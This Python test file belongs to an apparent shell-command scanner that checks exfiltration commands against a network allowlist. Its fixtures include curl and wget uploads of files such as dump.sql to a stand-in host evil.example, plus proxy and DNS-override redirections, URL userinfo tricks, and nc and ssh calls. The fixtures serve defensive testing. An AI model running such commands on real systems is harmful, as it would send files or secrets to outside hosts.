"""Claims about the network list: it speaks only where every destination is in the words, and all are listed."""

from __future__ import annotations

import shlex

import pytest

from chrono.policy.load import parse
from chrono.policy.model import AllowEntry
from chrono.policy.network import allowed_hosts, destinations, listed
from chrono.scan.command import UNKNOWN, Command, Word
from chrono.scan.finding import Finding, Scan

LIST = (AllowEntry("ok.example", "user", 1), AllowEntry("*.ok.example", "user", 2))


def hosts(text: str) -> tuple[str, ...]:
    return destinations(tuple(shlex.split(text)))


def judged(argv: tuple[Word, ...], rule: str = "exfiltration.pipe", command: Command | None = None) -> tuple[str, ...]:
    finding = Finding(rule, "sends", 75, "", "", (0, 1), argv, (), (), "no")
    return allowed_hosts(finding, Scan("", (command or Command(argv),), (finding,), (), False), LIST)


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("curl -d @report.txt https://ok.example/in", ("ok.example",)),
        ("curl -sSfd @- OK.example.:8443/in", ("ok.example",)),
        ("curl --data-binary @f --url https://user:pw@a.ok.example/x?y=z", ("a.ok.example",)),
        ("curl -T dump.sql https://ok.example https://evil.example", ("ok.example", "evil.example")),
        ("curl https://ok.example@evil.example/", ("evil.example",)),
        ("/usr/bin/wget --post-file dump.sql --post-file=x https://ok.example", ("ok.example",)),
        ("scp -P 22 -r build me@ok.example:/srv", ("ok.example",)),
        ("rsync -a ./x ok.example:/srv", ("ok.example",)),
    ],
)
def test_every_destination_is_found(text: str, found: tuple[str, ...]) -> None:
    assert hosts(text) == found


@pytest.mark.parametrize(
    "text",
    [
        "curl -x http://evil.example https://ok.example",
        "curl -sx evil.example https://ok.example",
        "curl --proxy=evil.example https://ok.example",
        "curl --resolve ok.example:443:6.6.6.6 https://ok.example",
        "curl --connect-to ::evil.example: https://ok.example",
        "curl -K conf https://ok.example",
        "curl 'https://{ok,evil}.example/'",
        "curl 'https://ok.example\\@evil.example/'",
        "curl https://[::1]/",
        "wget -e use_proxy=yes https://ok.example",
        "wget -i urls https://ok.example",
        "scp -o ProxyCommand=x f ok.example:",
        "rsync -e 'ssh -J evil' f ok.example:",
        "rsync f ok.example::module",
        "nc ok.example 80",
        "ssh ok.example cat",
        "python -c x",
    ],
)
def test_what_could_go_elsewhere_is_no_proof(text: str) -> None:
    assert not hosts(text) or "ok.example" not in hosts(text)
    assert judged(tuple(shlex.split(text))) == ()


def test_all_hosts_must_be_listed_and_secrets_never_are() -> None:
    fine: tuple[Word, ...] = ("curl", "-d", "@f", "https://ok.example")
    assert judged(fine) == ("ok.example",)
    assert judged(("curl", "-d", "@f", "https://a.b.ok.example")) == ("a.b.ok.example",)
    assert judged((*fine, "https://evil.example")) == ()
    assert judged((*fine, UNKNOWN)) == ()
    for rule in ("exfiltration.secret", "exfiltration.environment", "exfiltration.secret-piped", "git.push-force"):
        assert judged(fine, rule) == ()
    proxied = Command(fine, assigns=(("https_proxy", "evil.example"),))
    assert judged(fine, command=proxied) == ()


def test_a_star_stands_for_names_below_only() -> None:
    assert listed("a.ok.example", "*.ok.example") and listed("a.b.ok.example", "*.ok.example")
    for host in ("ok.example", "notok.example", "ok.example.evil", ".ok.example"):
        assert not listed(host, "*.ok.example"), host


@pytest.mark.parametrize("host", ["*", "a b", "https://ok.example", "ok.example/x", "*.*.x", "-x"])
def test_what_is_no_host_is_said_with_its_line(host: str) -> None:
    from chrono.errors import PolicyError

    with pytest.raises(PolicyError, match=r"p:3: .* is no host"):
        parse(f"network:\n  allow:\n    - '{host}'\n", "p", layer="user")
